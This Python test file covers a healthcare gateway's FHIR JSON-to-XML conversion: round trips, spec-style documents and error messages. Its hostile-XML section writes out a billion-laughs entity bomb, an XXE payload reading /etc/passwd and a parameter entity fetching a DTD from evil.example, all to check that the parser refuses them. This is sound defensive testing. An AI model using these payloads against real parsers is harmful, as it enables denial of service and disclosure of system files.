"""Tests for FHIR JSON <-> XML conversion (gateway.fhir.xml)."""

from __future__ import annotations

import decimal
from typing import Any

import orjson
import pytest
from lxml import etree

from gateway.fhir.structure import samples
from gateway.fhir.structure.validate import validate_resource
from gateway.fhir.xml import FHIR_NS, XHTML_NS, FhirFormatError, resource_to_xml, xml_to_resource

F = "{" + FHIR_NS + "}"


def _xml(body: str, root: str = "Patient") -> bytes:
    return f'<{root} xmlns="{FHIR_NS}">{body}</{root}>'.encode()


def _roundtrip_cases() -> dict[str, dict[str, Any]]:
    cases = samples.all_valid()
    obs = samples.observation()
    obs["valueQuantity"]["value"] = 1e-7  # float repr uses an exponent
    obs["referenceRange"][0]["low"]["value"] = -3
    cases["observation_exponent"] = obs
    return cases


# ------------------------------------------------------------- round trips


@pytest.mark.parametrize("name", sorted(_roundtrip_cases()))
def test_json_xml_json_round_trip(name: str) -> None:
    resource = _roundtrip_cases()[name]
    # Go through JSON bytes, as the gateway does, so types are JSON's own.
    resource = orjson.loads(orjson.dumps(resource))
    xml = resource_to_xml(resource)
    back = xml_to_resource(xml)
    assert back == resource
    assert validate_resource(back) == []
    # Stable: converting again yields identical bytes.
    assert resource_to_xml(back) == xml


def test_xml_follows_fhir_layout() -> None:
    root = etree.fromstring(resource_to_xml(samples.uk_core_patient()))
    assert root.tag == F + "Patient" and root.nsmap == {None: FHIR_NS}
    names = [etree.QName(c).localname for c in root]
    # Definition order, with repeated elements for arrays.
    assert names[:6] == ["id", "meta", "text", "extension", "identifier", "active"]
    assert names.index("name") < names.index("telecom") < names.index("gender") < names.index("birthDate")
    assert root.find(F + "id").get("value") == "UKCore-Patient-RichardSmith-Example"
    assert root.find(F + "active").get("value") == "true"
    ident = root.find(F + "identifier")
    assert ident.find(F + "extension").get("url").endswith("NHSNumberVerificationStatus")
    assert ident.find(F + "value").get("value") == "9000000009"
    givens = root.findall(f"{F}name/{F}given")
    assert [g.get("value") for g in givens] == ["Richard", "John"]
    div = root.find(f"{F}text/{{{XHTML_NS}}}div")
    assert div is not None and div.find(f"{{{XHTML_NS}}}p/{{{XHTML_NS}}}b").text == "Smith"


def test_primitive_extensions_become_attributes_and_children() -> None:
    root = etree.fromstring(resource_to_xml(samples.patient_with_primitive_extensions()))
    family = root.find(f"{F}name/{F}family")
    assert family.get("value") == "Ng" and family.get("id") == "fam1"
    assert family.find(F + "extension/" + F + "valueString").get("value") == "van"
    given = root.findall(f"{F}name/{F}given")
    assert [(g.get("value"), g.get("id"), len(g)) for g in given] == [
        ("Anna", None, 0), (None, None, 1), ("Lee", "g3", 0)]
    assert root.find(F + "birthDate").find(F + "extension").get("url").endswith("patient-birthTime")


def test_resources_are_wrapped_in_containers() -> None:
    root = etree.fromstring(resource_to_xml(samples.transaction_bundle()))
    resources = root.findall(f"{F}entry/{F}resource")
    assert [etree.QName(r[0]).localname for r in resources] == ["Patient", "Encounter", "ServiceRequest"]
    contained = resources[2][0].find(F + "contained")
    assert [etree.QName(c).localname for c in contained] == ["Condition"]


def test_decimal_lexical_forms() -> None:
    xml = _xml('<valueQuantity><value value="1.50"/></valueQuantity>', "Observation")
    xml = xml.replace(b"<valueQuantity>", b'<status value="final"/><code><text value="x"/></code><valueQuantity>')
    assert xml_to_resource(xml)["valueQuantity"]["value"] == 1.5
    exact = xml_to_resource(xml, exact_decimals=True)["valueQuantity"]["value"]
    assert isinstance(exact, decimal.Decimal) and str(exact) == "1.50"
    # Decimal values keep their lexical form on the way back out.
    assert b'<value value="1.50"/>' in resource_to_xml(xml_to_resource(xml, exact_decimals=True))
    whole = xml.replace(b'"1.50"', b'"100"')
    assert xml_to_resource(whole)["valueQuantity"]["value"] == 100
    assert type(xml_to_resource(whole)["valueQuantity"]["value"]) is int


# ------------------------------------------------- hand-written spec-style XML

SPEC_PATIENT = b"""<?xml version="1.0" encoding="UTF-8"?>
<Patient xmlns="http://hl7.org/fhir">
  <id value="example"/>
  <!--   comments are dropped   -->
  <text>
    <status value="generated"/>
    <div xmlns="http://www.w3.org/1999/xhtml"><p>Peter James <b>Chalmers</b></p></div>
  </text>
  <identifier>
    <use value="usual"/>
    <type>
      <coding>
        <system value="http://terminology.hl7.org/CodeSystem/v2-0203"/>
        <code value="MR"/>
      </coding>
    </type>
    <system value="urn:oid:1.2.36.146.595.217.0.1"/>
    <value value="12345"/>
    <period>
      <start value="2001-05-06"/>
    </period>
  </identifier>
  <active value="true"/>
  <name>
    <use value="official"/>
    <family value="Chalmers"/>
    <given value="Peter"/>
    <given id="g2">
      <extension url="http://hl7.org/fhir/StructureDefinition/data-absent-reason">
        <valueCode value="masked"/>
      </extension>
    </given>
  </name>
  <gender value="male"/>
  <birthDate value="1974-12-25">
    <extension url="http://hl7.org/fhir/StructureDefinition/patient-birthTime">
      <valueDateTime value="1974-12-25T14:35:45-05:00"/>
    </extension>
  </birthDate>
  <deceasedBoolean value="false"/>
  <multipleBirthInteger value="2"/>
  <contact>
    <relationship>
      <coding>
        <system value="http://terminology.hl7.org/CodeSystem/v2-0131"/>
        <code value="N"/>
      </coding>
    </relationship>
    <telecom>
      <system value="phone"/>
      <value value="+33 (237) 998327"/>
      <rank value="1"/>
    </telecom>
  </contact>
</Patient>
"""

SPEC_PATIENT_JSON = {
    "resourceType": "Patient",
    "id": "example",
    "text": {"status": "generated",
             "div": '<div xmlns="http://www.w3.org/1999/xhtml"><p>Peter James <b>Chalmers</b></p></div>'},
    "identifier": [{
        "use": "usual",
        "type": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v2-0203", "code": "MR"}]},
        "system": "urn:oid:1.2.36.146.595.217.0.1",
        "value": "12345",
        "period": {"start": "2001-05-06"},
    }],
    "active": True,
    "name": [{"use": "official", "family": "Chalmers", "given": ["Peter", None],
              "_given": [None, {"id": "g2", "extension": [{
                  "url": "http://hl7.org/fhir/StructureDefinition/data-absent-reason", "valueCode": "masked"}]}]}],
    "gender": "male",
    "birthDate": "1974-12-25",
    "_birthDate": {"extension": [{"url": "http://hl7.org/fhir/StructureDefinition/patient-birthTime",
                                  "valueDateTime": "1974-12-25T14:35:45-05:00"}]},
    "deceasedBoolean": False,
    "multipleBirthInteger": 2,
    "contact": [{
        "relationship": [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v2-0131", "code": "N"}]}],
        "telecom": [{"system": "phone", "value": "+33 (237) 998327", "rank": 1}],
    }],
}


def test_spec_style_patient() -> None:
    got = xml_to_resource(SPEC_PATIENT)
    assert got == SPEC_PATIENT_JSON
    assert validate_resource(got) == []


SPEC_BUNDLE = b"""<Bundle xmlns="http://hl7.org/fhir">
  <type value="transaction"/>
  <entry>
    <fullUrl value="urn:uuid:61ebe359-bfdc-4613-8bf2-c5e300945f0a"/>
    <resource>
      <Observation>
        <contained>
          <Device>
            <id value="dev1"/>
            <status value="active"/>
          </Device>
        </contained>
        <status value="final"/>
        <code><text value="Heart rate"/></code>
        <valueQuantity>
          <value value="72"/>
          <unit value="beats/minute"/>
        </valueQuantity>
        <device><reference value="#dev1"/></device>
      </Observation>
    </resource>
    <request>
      <method value="POST"/>
      <url value="Observation"/>
    </request>
  </entry>
</Bundle>"""


def test_spec_style_bundle_with_contained() -> None:
    assert xml_to_resource(SPEC_BUNDLE) == {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [{
            "fullUrl": "urn:uuid:61ebe359-bfdc-4613-8bf2-c5e300945f0a",
            "resource": {
                "resourceType": "Observation",
                "contained": [{"resourceType": "Device", "id": "dev1", "status": "active"}],
                "status": "final",
                "code": {"text": "Heart rate"},
                "valueQuantity": {"value": 72, "unit": "beats/minute"},
                "device": {"reference": "#dev1"},
            },
            "request": {"method": "POST", "url": "Observation"},
        }],
    }


def test_prefixed_namespaces_and_schema_location() -> None:
    xml = (b'<f:Patient xmlns:f="http://hl7.org/fhir" xmlns:h="http://www.w3.org/1999/xhtml" '
           b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
           b'xsi:schemaLocation="http://hl7.org/fhir patient.xsd">'
           b'<f:text><f:status value="generated"/><h:div><h:p>Hi</h:p></h:div></f:text>'
           b'<f:active value="false"/></f:Patient>')
    assert xml_to_resource(xml) == {
        "resourceType": "Patient",
        "text": {"status": "generated", "div": f'<div xmlns="{XHTML_NS}"><p>Hi</p></div>'},
        "active": False,
    }


def test_json_div_without_namespace_gets_it_in_xml() -> None:
    patient = {"resourceType": "Patient", "text": {"status": "generated", "div": "<div><p>x</p></div>"}}
    root = etree.fromstring(resource_to_xml(patient))
    assert root.find(f"{F}text/{{{XHTML_NS}}}div/{{{XHTML_NS}}}p").text == "x"


# ------------------------------------------------------------ hostile XML

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
               for i in range(1, 10))
    + b']><Patient xmlns="http://hl7.org/fhir"><name><family value="&lol9;"/></name></Patient>'
)
XXE = (b'<?xml version="1.0"?><!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       b'<Patient xmlns="http://hl7.org/fhir"><name><text value="&xxe;"/>&xxe;</name></Patient>')
PLAIN_DOCTYPE = b'<!DOCTYPE Patient><Patient xmlns="http://hl7.org/fhir"><active value="true"/></Patient>'
PARAMETER_ENTITY = (b'<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
                    b'<Patient xmlns="http://hl7.org/fhir"/>')


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, PLAIN_DOCTYPE, PARAMETER_ENTITY],
                         ids=["billion-laughs", "xxe", "doctype", "parameter-entity"])
def test_hostile_documents_are_refused(data: bytes) -> None:
    with pytest.raises(FhirFormatError) as info:
        xml_to_resource(data)
    assert "DOCTYPE" in info.value.message
    assert "root:" not in str(info.value)


def test_doctype_in_narrative_is_refused() -> None:
    patient = {"resourceType": "Patient", "text": {"status": "generated",
               "div": '<div xmlns="http://www.w3.org/1999/xhtml">&lt;x&gt;</div>'}}
    resource_to_xml(patient)  # escaped markup is fine
    patient["text"]["div"] = '<div><!DOCTYPE x [<!ENTITY a "b">]></div>'
    with pytest.raises(FhirFormatError):
        resource_to_xml(patient)


def test_undeclared_entity_and_non_utf8_are_errors() -> None:
    with pytest.raises(FhirFormatError):
        xml_to_resource(_xml('<name><text value="&secret;"/></name>'))
    with pytest.raises(FhirFormatError, match="UTF-8"):
        xml_to_resource(_xml('<active value="true"/>').decode().encode("utf-16"))
    with pytest.raises(FhirFormatError, match="bytes"):
        xml_to_resource(_xml("").decode())  # type: ignore[arg-type]


# ---------------------------------------------------------- format errors


@pytest.mark.parametrize("body,location,fragment", [
    ('<name><famly value="x"/></name>', "Patient.name[0].famly", "famly"),
    ('<nhsNumber value="1"/>', "Patient.nhsNumber", "nhsNumber"),
    ('<active value="yes"/>', "Patient.active", "boolean"),
    ('<active value="true"/><active value="false"/>', "Patient.active", "once"),
    ('<telecom><rank value="1.5"/></telecom>', "Patient.telecom[0].rank", "positiveInt"),
    ('<telecom><rank value="0"/></telecom>', "Patient.telecom[0].rank", "positiveInt"),
    ('<active/>', "Patient.active", "no value"),
    ('<name id="n1"/>', "Patient.name[0]", "no content"),
    ('<name><id value="x"/></name>', "Patient.name[0].id", "id"),
    ('<extension><url value="http://x"/></extension>', "Patient.extension[0].url", "url"),
    ('<name><family value="x" colour="red"/></name>', "Patient.name[0].family", "colour"),
    ("<name>Smith</name>", "Patient.name[0]", "text"),
    ('<text><status value="generated"/><div><p/></div></text>', "Patient.text.div", "XHTML"),
    ("<contained><Nonsense/></contained>", "Patient.contained[0]", "Nonsense"),
    ('<contained><Basic><code><text value="a"/></code></Basic><Basic/></contained>',
     "Patient.contained[0]", "exactly one"),
    ('<x:foo xmlns:x="urn:other"/>', "Patient.foo", "foo"),
])
def test_format_errors_name_the_element(body: str, location: str, fragment: str) -> None:
    with pytest.raises(FhirFormatError) as info:
        xml_to_resource(_xml(body))
    assert info.value.location == location
    assert fragment in info.value.message


def test_root_errors() -> None:
    with pytest.raises(FhirFormatError, match="namespace"):
        xml_to_resource(b'<Patient><active value="true"/></Patient>')
    with pytest.raises(FhirFormatError, match="resource type"):
        xml_to_resource(b'<HumanName xmlns="http://hl7.org/fhir"/>')
    with pytest.raises(FhirFormatError, match="Malformed"):
        xml_to_resource(b'<Patient xmlns="http://hl7.org/fhir"><active value="true"></Patient>')


@pytest.mark.parametrize("resource,location", [
    ({"resourceType": "Nope"}, None),
    ({"resourceType": "Patient", "nhsNumber": "1"}, "Patient.nhsNumber"),
    ({"resourceType": "Patient", "_name": {"id": "x"}}, "Patient._name"),
    ({"resourceType": "Patient", "active": "true"}, "Patient.active"),
    ({"resourceType": "Patient", "name": {"family": "x"}}, "Patient.name"),
    ({"resourceType": "Patient", "name": [{"given": ["a"], "_given": [None, None]}]}, "Patient.name[0].given"),
    ({"resourceType": "Patient", "contained": [{"id": "x"}]}, "Patient.contained[0]"),
    ({"resourceType": "Observation", "valueQuantity": {"value": float("nan")}}, "Observation.valueQuantity.value"),
    ({"resourceType": "Patient", "name": [{"family": "bad\x01char"}]}, "Patient.name[0].family"),
])
def test_json_that_cannot_be_written_as_xml(resource: dict[str, Any], location: str | None) -> None:
    with pytest.raises(FhirFormatError) as info:
        resource_to_xml(resource)
    assert info.value.location == location
